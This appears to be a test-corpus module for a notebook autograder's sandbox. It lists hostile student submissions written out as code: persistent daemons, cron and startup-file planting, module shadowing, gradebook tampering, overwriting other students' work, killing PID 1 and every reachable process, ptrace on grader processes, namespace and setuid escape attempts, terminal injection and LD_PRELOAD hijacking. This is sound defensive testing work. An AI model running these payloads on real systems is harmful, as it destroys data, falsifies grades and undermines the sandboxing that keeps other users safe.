"""Staying, spreading, and reaching out: processes and files left behind, others' work, signals, kernels, networks.

What an entry leaves bears the harness's mark and does nothing; whatever needs a sandbox to be harmless asks for one.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from corpus.submission import Secrets, Submission, answers, cells, code, code_cell, danger, hand_in, insert

__all__ = ["submissions"]


def tries(name: str, about: str, text: str, **more: Any) -> Submission:
    return Submission(name, "persistence", about, cells(text), **more)


def modules_beside(room: Any, folder: Path, secrets: Secrets) -> None:
    """Files that Python imports before those it was asked for."""
    stolen = "def check(*given):\n    return 3.0\n\ndef __getattr__(name):\n    return check\n"
    notebook = insert(room.empty(), code_cell("from numpy import check\nimport sitecustomize, usercustomize"))
    hand_in(folder, notebook)
    for name in ("numpy", "json", "ntk_teach", "sitecustomize", "usercustomize", "ipykernel", "torch", "conftest"):
        (folder / f"{name}.py").write_text(stolen)
    (folder / "ntk_teach").mkdir()
    (folder / "ntk_teach" / "__init__.py").write_text(stolen)
    for name in ("ipython_config.py", "ipython_kernel_config.py", "jupyter_config.py", "nbgrader_config.py"):
        (folder / name).write_text("c = get_config()\nc.Run.timeout = 9999\nc.Autograde.autograde_preprocessors = []\n")
    (folder / "pyvenv.cfg").write_text("home = /tmp\n")
    (folder / ".pth").write_text("import os\n")


def own_answers_stolen(room: Any, folder: Path, secrets: Secrets) -> None:
    """Right answers, and a cell that would spoil those of everybody after it."""
    spoil = """
import os, sys, tempfile
text = "raise SystemExit('spoiled')"
places = [os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), *sys.path]
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "ntk_teach.py", $mark + ".pth"):
        path = os.path.join(place or ".", name)
        if os.path.isdir(place) and not os.path.exists(path):
            try:
                with open(path, "w") as file:
                    file.write("# " + $mark + "\\n")
                print("wrote", path)
            except OSError as error:
                print(error)
"""
    hand_in(folder, insert(room.solved(), code_cell(code(danger(spoil), room, secrets))))


submissions = [
    tries(
        "daemon",
        "Forks twice, starts its own session, and goes on after the grading.",
        danger("""
import signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        open("/proc/self/comm", "w").write($mark[:15])
        for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        os.closerange(0, 64)
        for _ in range(300):
            time.sleep(1)
        os._exit(0)
    os._exit(0)
"""),
    ),
    Submission(
        "daemon_within_an_answer",
        "persistence",
        "The same from inside an answer, while the grader waits for the reply.",
        answers(
            danger("""
def NAME(*given):
    import time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            open("/proc/self/comm", "w").write($mark[:15])
            for _ in range(300):
                time.sleep(1)
        os._exit(0)
    return 0.0
"""),
            "05.1",
            "05.2",
        ),
    ),
    tries(
        "program_left_running",
        "Starts a program with nohup, in a session and group of its own, which outlives its parent.",
        danger("""
import subprocess, sys
program = "import time\\nfor _ in range(300):\\n    time.sleep(1)"
subprocess.Popen(["nohup", sys.executable, "-c", program, $mark], start_new_session=True, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL, close_fds=True, process_group=0)
"""),
    ),
    tries(
        "adopts_a_new_parent",
        "Asks the kernel to keep its child when the parent dies, and to be told of no parent's death.",
        danger("""
import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(36, 1, 0, 0, 0)
if os.fork() == 0:
    libc.prctl(1, 0, 0, 0, 0)
    open("/proc/self/comm", "w").write($mark[:15])
    for _ in range(300):
        time.sleep(1)
    os._exit(0)
"""),
    ),
    tries(
        "startup_files",
        "Writes files that shells, cron, Python and IPython run at their next start.",
        danger("""
import site, sys
home = os.path.expanduser("~")
places = [home + "/.ipython/profile_default/startup", home + "/.config/autostart", home + "/.local/bin", home,
          "/etc/cron.d", "/etc/profile.d", "/var/spool/cron/crontabs", "/etc/ld.so.conf.d", "/etc/init.d",
          *site.getsitepackages(), site.getusersitepackages(), sys.prefix + "/bin", "/usr/local/bin", "/etc/ipython"]
for place in places:
    for name in (".py", ".pth", ".sh", ".desktop"):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, $mark + name), "x") as file:
                file.write("# nothing\\n")
        except OSError as error:
            print(error)
"""),
    ),
    Submission(
        "spoils_the_next",
        "persistence",
        "Leaves modules where the next student's process would import them; its own answers are right.",
        own_answers_stolen,
        most=14,
        least=14,
    ),
    tries(
        "shared_names",
        "Leaves files, links, locks, sockets and semaphores in all folders that are shared.",
        danger("""
import socket, tempfile
from multiprocessing import shared_memory
for folder in (tempfile.gettempdir(), os.path.dirname($planted), "/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock"):
    for make in (
        lambda path: open(path, "x").close(),
        lambda path: os.symlink("/etc/passwd", path + "-link"),
        lambda path: os.mkfifo(path + "-fifo"),
        lambda path: socket.socket(socket.AF_UNIX).bind(path + "-socket"),
        lambda path: os.mkdir(path + "-folder"),
    ):
        try:
            make(os.path.join(folder, $mark))
        except OSError as error:
            print(error)
try:
    kept = shared_memory.SharedMemory($mark, create=True, size=100)
    from multiprocessing import resource_tracker
    resource_tracker.unregister(kept._name, "shared_memory")
except (OSError, ImportError) as error:
    print(error)
"""),
    ),
    tries(
        "system_files_opened",
        "Opens for writing, without writing, the files that decide who may do what.",
        danger("""
import sys, torch, numpy
for path in ("/etc/passwd", "/etc/shadow", "/etc/ld.so.preload", "/etc/ld.so.cache", "/etc/hosts", "/bin/sh",
             sys.executable, torch.__file__, numpy.__file__, os.__file__, "/proc/sys/kernel/core_pattern",
             "/proc/sysrq-trigger", "/proc/1/mem", "/proc/sys/vm/overcommit_memory", "/sys/kernel/uevent_helper"):
    try:
        os.close(os.open(path, os.O_RDWR))
        escaped(path)
    except OSError as error:
        print(error)
"""),
    ),
    tries(
        "others_overwritten",
        "Writes over the submissions, grades, feedback and sources that it can find.",
        """
import glob, os
for root in ("../../..", "../..", "..", $course):
    for pattern in ("submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", "release/*/*.ipynb", "source/*/*", "*/*/*.ipynb",
                    "feedback/*/*/*", "nbgrader_config.py", ".state/*", ".secret"):
        for path in glob.glob(os.path.join(root, pattern)):
            try:
                with open(path, "r+") as file:
                    file.write("{")
                print("corpus", "escaped", path, sep="-")
            except OSError as error:
                print(error)
""",
    ),
    tries(
        "gradebook_written",
        "Gives itself all points in the gradebook, and locks it.",
        """
import fcntl, sqlite3
for path in ("../../../gradebook.db", "../../gradebook.db", $course + "/gradebook.db"):
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1) as book:
            book.execute("update grade set manual_score = 200")
        print("corpus", "escaped", path, sep="-")
        kept = open(path, "r+")
        fcntl.lockf(kept, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except (OSError, sqlite3.Error) as error:
        print(error)
""",
    ),
    tries(
        "records_forged",
        "Writes reports, journals and autograded notebooks where the grader keeps its own.",
        """
import json, os
for root in ("../../..", $course):
    for name in (".state", "autograded/gradebook_written", "feedback/forged", "submitted/somebody-new/" + $slug):
        try:
            os.makedirs(os.path.join(root, name), exist_ok=True)
            with open(os.path.join(root, name, $mark + ".json"), "w") as file:
                json.dump({"score": 14}, file)
        except OSError as error:
            print(error)
""",
    ),
    tries(
        "links_in_the_working_folder",
        "Replaces everything in its working folder and beside its sockets by links to files of the course.",
        danger("""
import tempfile
places = {os.getcwd(), tempfile.gettempdir(), os.environ.get("JUPYTER_RUNTIME_DIR", "."), os.environ.get("HOME", ".")}
try:
    import ipykernel
    places.add(os.path.dirname(ipykernel.get_connection_file()))
except Exception as error:
    print(error)
for place in places:
    for name in [*os.listdir(place), "output.ipynb", "verdicts.json", "stdout", "core"]:
        path = os.path.join(place, name)
        try:
            if os.path.lexists(path) and not os.path.isdir(path):
                os.rename(path, path + ".old")
            os.symlink($course + "/gradebook.db", path)
        except OSError as error:
            print(error)
"""),
    ),
    tries(
        "sockets_replaced",
        "Replaces the sockets that it was started with by its own and by links.",
        danger("""
import glob, socket, stat, tempfile
kept = []
for root in (tempfile.gettempdir(), os.path.dirname($planted), os.getcwd(), "/run", "/tmp"):
    for path in glob.glob(root + "/**/*", recursive=True)[:5000]:
        try:
            if stat.S_ISSOCK(os.stat(path).st_mode):
                os.unlink(path)
                server = socket.socket(socket.AF_UNIX)
                server.bind(path)
                server.listen()
                kept.append(server)
        except OSError as error:
            print(path, error)
"""),
    ),
    tries(
        "others_killed",
        "Sends the signal that cannot be ignored to a process of the grader.",
        """
import os, signal
try:
    os.kill($victim, signal.SIGKILL)
    print("corpus", "escaped", "kill", sep="-")
except OSError as error:
    print(error)
""",
    ),
    tries(
        "all_killed",
        "Kills everything that it may kill, and its parent first.",
        danger("""
import signal
for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for process in (os.getppid(), 1, -1):
        try:
            os.kill(process, number)
        except OSError as error:
            print(error)
"""),
    ),
    tries(
        "others_traced",
        "Attaches to a process of the grader, and reads and writes its memory.",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
own = ctypes.create_string_buffer(64)
for process in ($victim, os.getppid()):
    here, there = Part(ctypes.addressof(own), 64), Part(0x400000, 64)
    if libc.process_vm_readv(process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        print("corpus", "escaped", "readv", sep="-")
    if process == $victim and libc.ptrace(16, process, 0, 0) == 0:
        libc.ptrace(17, process, 0, 0)
        print("corpus", "escaped", "ptrace", sep="-")
    try:
        number = os.pidfd_open(process)
        if process == $victim:
            print("corpus", "escaped", "pidfd", sep="-")
    except OSError as error:
        print(error)
""",
    ),
    tries(
        "mounts_and_namespaces",
        "Makes namespaces, mounts, changes its root, enters others' namespaces.",
        danger("""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *given):
    done = getattr(libc, name)(*given)
    print(name, done, os.strerror(ctypes.get_errno()))
    return done == 0
if os.fork() == 0:
    for flags in (0x10000000, 0x00020000, 0x10020000, 0x40000000, 0x20000000):
        call("unshare", flags)
    if call("mount", b"none", b"/usr", b"tmpfs", 0, None) or call("mount", b"none", b"/tmp", b"tmpfs", 0, None):
        escaped("mount")
    if call("mount", None, b"/", None, 32 | 4096, None):
        escaped("remount")
    if call("umount2", b"/proc", 2):
        escaped("umount")
    if call("chroot", b"/tmp"):
        escaped("chroot")
    for kind in ("mnt", "net", "pid", "user"):
        for process in (1, os.getppid()):
            try:
                number = os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY)
                call("setns", number, 0)
            except OSError as error:
                print(error)
    import sys
    sys.stdout.flush()
    os._exit(0)
os.wait()
"""),
    ),
    tries(
        "rights_regained",
        "Asks for other users, capabilities, devices, modules, clocks and priorities.",
        danger("""
import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
if os.fork() == 0:
    was = os.getuid()
    for user in (0, 1, 65534):
        try:
            os.setresuid(user, user, user)
            if user != was:
                escaped("setuid")
        except OSError as error:
            print(error)
    try:
        os.mknod("/tmp/" + $mark + "-device", 0o60666, os.makedev(8, 0))
        escaped("mknod")
    except OSError as error:
        print(error)
    try:
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
        escaped("scheduler")
    except OSError as error:
        print(error)
    try:
        os.setpriority(os.PRIO_PROCESS, 0, -10)
        escaped("priority")
    except OSError as error:
        print(error)
    try:
        time.clock_settime(time.CLOCK_REALTIME, time.time())
        escaped("clock")
    except OSError as error:
        print(error)
    try:
        import socket
        socket.sethostname("corpus")
        escaped("hostname")
    except OSError as error:
        print(error)
    import sys
    sys.stdout.flush()
    os._exit(0)
os.wait()
"""),
    ),
    tries(
        "kernel_interfaces",
        "Calls what only few programs need: bpf, keyctl, io_uring, userfaultfd, perf, loading of modules.",
        danger("""
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
numbers = {"bpf": 321, "keyctl": 250, "io_uring_setup": 425, "userfaultfd": 323, "perf_event_open": 298,
           "add_key": 248, "request_key": 249, "init_module": 175, "kexec_load": 246, "swapon": 167, "acct": 163,
           "open_by_handle_at": 304, "fanotify_init": 300, "clone3": 435, "open_tree": 428, "move_mount": 429}
if platform.machine() == "x86_64":
    for name, number in numbers.items():
        done = libc.syscall(number, 0, 0, 0, 0, 0, 0)
        print(name, done, os.strerror(ctypes.get_errno()))
"""),
    ),
    tries(
        "terminal_typed_into",
        "Types into the terminal of whoever grades.",
        danger("""
import fcntl, termios
for path in ("/dev/tty", "/dev/pts/0", "/dev/pts/1", "/dev/console", "/dev/tty0"):
    try:
        number = os.open(path, os.O_RDWR | os.O_NOCTTY)
        fcntl.ioctl(number, termios.TIOCSTI, b" ")
        escaped(path)
    except OSError as error:
        print(error)
"""),
    ),
    tries(
        "loopback_reached",
        "Connects to what listens on this machine: streams, datagrams, and answers to a broadcast.",
        """
import socket
text = b"hello from a submission"
for kind, port in ((socket.SOCK_STREAM, $port), (socket.SOCK_DGRAM, $datagrams)):
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "localhost")):
        try:
            with socket.socket(family, kind) as line:
                line.settimeout(1)
                line.connect((host, port))
                line.send(text)
        except OSError as error:
            print(error)
""",
    ),
    Submission(
        "loopback_reached_within_an_answer",
        "persistence",
        "The same from inside answers: a question sent out, an answer taken in.",
        answers(
            """
def NAME(*given):
    import socket, urllib.request
    try:
        return float(urllib.request.urlopen(f"http://127.0.0.1:{$port}/NAME", timeout=1).read())
    except (OSError, ValueError):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.sendto(b"NAME", ("127.0.0.1", $datagrams))
    return 0.0
""",
            "05.1",
            "05.2",
        ),
    ),
    tries(
        "unix_sockets_reached",
        "Connects to a Unix socket by path and by abstract name, which are in no network.",
        """
import socket
for address in ($socket, "\\0" + $abstract):
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(1)
            line.connect(address)
            line.send(b"hello from a submission")
    except OSError as error:
        print(error)
""",
    ),
    tries(
        "listens",
        "Opens sockets on all addresses and waits for somebody, the next student's process, say.",
        danger("""
import socket
if os.fork() == 0:
    open("/proc/self/comm", "w").write($mark[:15])
    kept = []
    for port in range(5000, 5020):
        try:
            server = socket.create_server(("127.0.0.1", port))
            kept.append(server)
        except OSError as error:
            print(error)
    if kept:
        kept[0].settimeout(200)
        kept[0].accept()
    os._exit(0)
"""),
    ),
    tries(
        "preloaded",
        "Sets what linkers, Python, Jupyter and shells read from the environment, for processes started later.",
        """
import os
for name, value in {
    "LD_PRELOAD": "/tmp/corpus.so", "LD_LIBRARY_PATH": "/tmp", "PYTHONPATH": "/tmp", "PYTHONSTARTUP": "/tmp/corpus.py",
    "PYTHONHOME": "/tmp", "BASH_ENV": "/tmp/corpus.sh", "JUPYTER_CONFIG_DIR": "/tmp", "IPYTHONDIR": "/tmp",
    "HOME": "/tmp", "PATH": "/tmp", "NTK_TEACH_SEEDS": '{"05.1": 1}', "PYTHONINSPECT": "1", "TMPDIR": "/nowhere",
}.items():
    os.environ[name] = value
""",
    ),
    Submission(
        "modules_beside",
        "persistence",
        "Hands in modules and configuration files that shadow numpy, ntk_teach and the grader's settings.",
        modules_beside,
        most=0,
    ),
    Submission(
        "all_killed_within_an_answer",
        "persistence",
        "The same, from inside one answer; the others are right and keep their points.",
        answers(
            danger("""
def NAME(*given):
    import signal
    for number in (signal.SIGTERM, signal.SIGKILL):
        for process in (os.getppid(), 1, -1):
            try:
                os.kill(process, number)
            except OSError:
                pass
    return 0.0
"""),
            "05.3",
            solved=True,
        ),
        most=11,
        least=0,
    ),
]
